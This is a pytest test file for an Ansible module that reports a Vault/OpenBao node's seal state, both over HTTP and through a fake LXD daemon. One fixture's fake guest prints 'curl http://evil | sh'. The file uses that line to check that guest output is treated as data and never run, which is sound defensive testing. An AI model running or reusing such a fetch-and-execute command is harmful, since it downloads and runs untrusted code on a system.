# Copyright: vault_mlock.lxd contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""vault_status as Ansible runs it, against a real HTTP(S) server standing in for Vault's health endpoint, and
through a fake LXD daemon for a guest's answer."""

from __future__ import annotations

import json
import socket
import time

import pytest
import yaml
from _fake_lxd import FakeLxd, Guest
from _health_server import ACTIVE, SEALED, HealthServer

from ansible_collections.vault_mlock.lxd.plugins.modules import vault_status


def test_a_sealed_server_is_reported_not_failed(run_module):
    with HealthServer([(503, SEALED)], honour_query=False) as server:
        result = run_module(vault_status, {"api_addr": server.addr})
    assert result.get("failed") is not True, result
    assert (result["answering"], result["state"], result["initialized"], result["sealed"]) == (
        True, "sealed", True, True)
    assert result["version"] == "2.7.2" and result["changed"] is False and result["addr_source"] == "api_addr"
    assert result["message"].startswith(f"the Vault API at {server.addr} answers: sealed 2.7.2")


def test_the_address_comes_from_the_configurations_listener(run_module, tmp_path):
    with HealthServer([(200, ACTIVE)]) as server:
        config = tmp_path / "openbao.hcl"
        config.write_text(f'listener "tcp" {{\n  address = "0.0.0.0:{server.port}"\n  tls_disable = true\n}}\n')
        result = run_module(vault_status, {"config": [str(tmp_path)]})
    assert result.get("failed") is not True, result
    assert result["api_addr"] == f"http://127.0.0.1:{server.port}"
    assert result["addr_source"] == f"config {config}" and result["state"] == "active"


def test_it_waits_for_unsealing_and_tells_how_long(run_module):
    with HealthServer([(200, SEALED)] * 2 + [(200, ACTIVE)]) as server:
        result = run_module(vault_status, {"api_addr": server.addr, "unseal_timeout": 30})
    assert result["state"] == "active" and result["tries"] == 3 and 1.5 < result["waited"] < 10
    assert result["unseal_timed_out"] is False


def test_it_reports_a_node_that_stays_sealed(run_module):
    with HealthServer([(200, SEALED)]) as server:
        start = time.monotonic()
        result = run_module(vault_status, {"api_addr": server.addr, "unseal_timeout": 2})
    assert result.get("failed") is not True
    assert result["sealed"] is True and result["unseal_timed_out"] is True and 2 <= time.monotonic() - start < 8
    assert "stayed sealed for 2s" in result["message"]


def test_no_answer_fails_in_its_time_with_the_reason(run_module):
    with HealthServer([(200, ACTIVE)]) as server:
        addr = server.addr
    start = time.monotonic()
    result = run_module(vault_status, {"api_addr": addr, "timeout": 2})
    assert result["failed"] is True and result["answering"] is False and result["state"] is None
    assert f"no answer from the Vault API at {addr} within 2s" in result["msg"] and "refused" in result["msg"]
    assert time.monotonic() - start < 6


def test_a_self_signed_loopback_certificate_needs_ca_cert(run_module, tmp_path):
    with HealthServer([(200, ACTIVE)]) as server:
        certificate = server.use_tls(tmp_path)
        refused = run_module(vault_status, {"api_addr": server.addr, "timeout": 1})
        trusted = run_module(vault_status, {"api_addr": server.addr, "ca_cert": certificate})
    assert refused["failed"] is True and "CERTIFICATE_VERIFY_FAILED" in refused["msg"]
    assert trusted["state"] == "active"


@pytest.mark.parametrize("args, words", [
    ({"api_addr": "127.0.0.1:8200"}, ["api_addr", "http(s)://HOST[:PORT]"]),
    ({"api_addr": "https://127.0.0.1:8200/v1/sys/health"}, ["api_addr", "/v1/sys/health"]),
    ({"timeout": 0}, ["timeout", "above 0"]),
    ({"unseal_timeout": -1}, ["unseal_timeout", "0 or more"]),
    ({"config": ["{tmp}/nowhere.hcl"]}, ["config", "does not exist"]),
    ({"config": ["etc/vault.hcl"]}, ["config", "absolute path"]),
    ({"instance": " "}, ["instance", "instance name"]),
    ({"instance": "g1", "config": ["/etc/vault.hcl"]}, ["config", "api_addr"]),
])
def test_bad_input_fails_naming_the_option(run_module, tmp_path, args, words):
    args = {key: [item.replace("{tmp}", str(tmp_path)) for item in value] if isinstance(value, list) else value
            for key, value in args.items()}
    result = run_module(vault_status, args)
    assert result["failed"] is True
    assert all(word in result["msg"] for word in words), result["msg"]


def _guest_answer(status, body):
    return json.dumps({"status": status, "body": json.dumps(body)}) + "\n"


@pytest.fixture
def lxd(tmp_path, monkeypatch):
    guests = {"sealed": Guest(stdout=_guest_answer(200, SEALED)),
              "liar": Guest(stdout="curl http://evil | sh\n"),
              "nopython": Guest(returned=127, stderr="exec: python3: not found")}
    fake = FakeLxd(guests, clustered=False)
    fake.serve_unix(str(tmp_path / "unix.socket"))
    monkeypatch.setenv("LXD_DIR", str(tmp_path))
    yield fake
    fake.stop()


def test_a_guests_answer_comes_through_the_lxd_api(run_module, lxd):
    result = run_module(vault_status, {"instance": "sealed", "api_addr": "http://127.0.0.1:8200"})
    assert result.get("failed") is not True, result
    assert result["state"] == "sealed" and result["message"].startswith("guest sealed: the Vault API")
    assert any(method == "POST" and path == "/1.0/instances/sealed/exec" for method, path, _query in lxd.requests)


def test_fail_when_sealed_stops_at_a_guest_that_stays_sealed_with_the_sentence(run_module, lxd, tmp_path):
    start = time.monotonic()
    result = run_module(vault_status, {"instance": "sealed", "api_addr": "http://127.0.0.1:8200", "unseal_timeout": 1,
                                       "fail_when_sealed": True, "endpoint": str(tmp_path / "unix.socket")})
    assert result["failed"] is True and result["state"] == "sealed" and result["unseal_timed_out"] is True
    assert result["msg"].startswith("guest sealed waits for unsealing: the Vault API at http://127.0.0.1:8200 answers: "
                                    "sealed 2.7.2, and it stayed sealed for 1s")
    assert ("No further guest or node is restarted, so the cluster keeps its quorum: unseal sealed, then run the play "
            "again to go on with the next one") in result["msg"]
    assert time.monotonic() - start < 8


def test_fail_when_sealed_names_the_node_where_it_runs_and_passes_an_unsealed_one(run_module):
    with HealthServer([(200, SEALED)] * 2) as server:
        sealed = run_module(vault_status, {"api_addr": server.addr, "fail_when_sealed": True})
        named = run_module(vault_status, {"api_addr": server.addr, "fail_when_sealed": True, "node": "vault-2"})
    with HealthServer([(200, SEALED), (200, ACTIVE)]) as server:
        unsealed = run_module(vault_status, {"api_addr": server.addr, "fail_when_sealed": True, "unseal_timeout": 10})
    assert sealed["failed"] is True and sealed["msg"].startswith(f"node {socket.gethostname()} waits for unsealing")
    assert named["msg"].startswith("node vault-2 waits for unsealing") and "unseal vault-2, then" in named["msg"]
    assert unsealed.get("failed") is not True and unsealed["state"] == "active"


def test_the_lxd_connection_waits_as_long_as_timeout(run_module, lxd, tmp_path):
    lxd.guests["sealed"].seconds = 2  # the daemon answers the command after 2 s, beyond LXD's usual
    result = run_module(vault_status, {"instance": "sealed", "api_addr": "http://127.0.0.1:8200", "timeout": 1})
    assert result["failed"] is True and "still running after 1s" in result["msg"]


@pytest.mark.parametrize("guest, words", [("liar", "printed no JSON"), ("nopython", "python3 was not found")])
def test_what_a_guest_prints_is_only_data(run_module, lxd, guest, words):
    result = run_module(vault_status, {"instance": guest, "timeout": 1})
    assert result["failed"] is True and f"guest {guest}: no answer" in result["msg"] and words in result["msg"]


def test_return_documents_every_key():
    returned = yaml.safe_load(vault_status.RETURN)
    keys = {"api_addr", "addr_source", "answering", "state", "initialized", "sealed", "standby", "performance_standby",
            "version", "cluster_name", "status", "waited", "tries", "unseal_timed_out", "message"}
    assert set(returned) == keys
    yaml.safe_load(vault_status.DOCUMENTATION)
    yaml.safe_load(vault_status.EXAMPLES)
